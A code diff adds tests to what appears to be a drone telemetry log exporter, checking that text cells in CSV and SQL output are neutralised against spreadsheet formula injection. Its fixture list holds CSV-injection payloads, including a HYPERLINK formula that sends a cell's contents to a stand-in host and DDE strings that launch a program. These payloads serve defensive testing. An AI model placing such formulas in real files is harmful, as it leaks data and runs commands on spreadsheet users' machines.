@@ -80,3 +80,59 @@ def test_two_captures_of_one_name_get_two_folders(cli: Cli, tmp_path: Path) -> N
     assert sorted(p.name for p in out.iterdir()) == ["cap.bin", "cap.bin.2"]
     # serial_dump.raw has no capture time: an empty timestamp, as a raw stream has none
     assert _read(out / "cap.bin.2" / "HEARTBEAT.csv")[1][0] == ""
+
+
+# Text a hostile sender puts in STATUSTEXT, and the cell a spreadsheet must read as text (OWASP's
+# CSV-injection rule, applied by hand: a cell beginning with = + - @ TAB or CR gets a leading ', unless
+# it is a signed number).
+HOSTILE = [
+    ('=HYPERLINK("http://x.example/?"&A1,"ok")', '\'=HYPERLINK("http://x.example/?"&A1,"ok")'),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("-12.5", "-12.5"),  # a number: left as it is
+    ("PreArm: Gyros inconsistent", "PreArm: Gyros inconsistent"),
+]
+
+
+def _hostile_tlog(tmp: Path) -> Path:
+    from tests.support.flows import T0, Sender, v2, write_tlog
+
+    s = Sender(1, 1)
+    entries = [(T0 + i, s.pack(v2.MAVLink_statustext_message(4, text.encode()))) for i, (text, _) in enumerate(HOSTILE)]
+    # a negative number in a numeric field is never touched
+    entries.append((T0 + 10, s.pack(v2.MAVLink_global_position_int_message(0, -353632610, 1491652370, 0, -500,
+                                                                            0, 0, 0, 0))))
+    return Path(write_tlog(tmp, entries, "hostile.tlog"))
+
+
+def test_text_a_spreadsheet_would_run_is_written_as_text(cli: Cli, tmp_path: Path) -> None:
+    tlog = _hostile_tlog(tmp_path)
+    status, _, err = cli("export", str(tlog), "-T", "csv", "-o", str(tmp_path / "out"))
+    assert status == 0, err
+    rows = _read(tmp_path / "out" / tlog.name / "STATUSTEXT.csv")
+    text = rows[0].index("STATUSTEXT.text")
+    assert [r[text] for r in rows[1:]] == [want for _, want in HOSTILE]
+    assert "export: 5 text cell(s) began with = + - @" in err and "--unsafe-csv" in err
+    gpi = _read(tmp_path / "out" / tlog.name / "GLOBAL_POSITION_INT.csv")
+    assert gpi[1][gpi[0].index("GLOBAL_POSITION_INT.lat")] == "-353632610"
+    assert gpi[1][gpi[0].index("GLOBAL_POSITION_INT.relative_alt")] == "-500"
+
+    status, _, err = cli("export", str(tlog), "-T", "csv", "-o", str(tmp_path / "raw"), "--unsafe-csv")
+    assert status == 0 and "text cell" not in err
+    rows = _read(tmp_path / "raw" / tlog.name / "STATUSTEXT.csv")
+    assert [r[text] for r in rows[1:]] == [sent for sent, _ in HOSTILE]
+
+
+def test_sql_csv_guards_text_cells_too(cli: Cli, tmp_path: Path) -> None:
+    tlog = _hostile_tlog(tmp_path)
+    q = "SELECT text, -1 AS n FROM STATUSTEXT ORDER BY _frame"
+    status, out, err = cli("sql", q, str(tlog), "--csv")
+    assert status == 0, err
+    rows = list(csv.reader(out.splitlines(keepends=True)))
+    assert rows[0] == ["text", "n"]
+    assert rows[1:] == [[want, "-1"] for _, want in HOSTILE]
+    assert "sql: 5 text cell(s)" in err
+    status, out, err = cli("sql", q, str(tlog), "--csv", "--unsafe-csv")
+    assert [r[0] for r in csv.reader(out.splitlines(keepends=True))][1:] == [sent for sent, _ in HOSTILE]
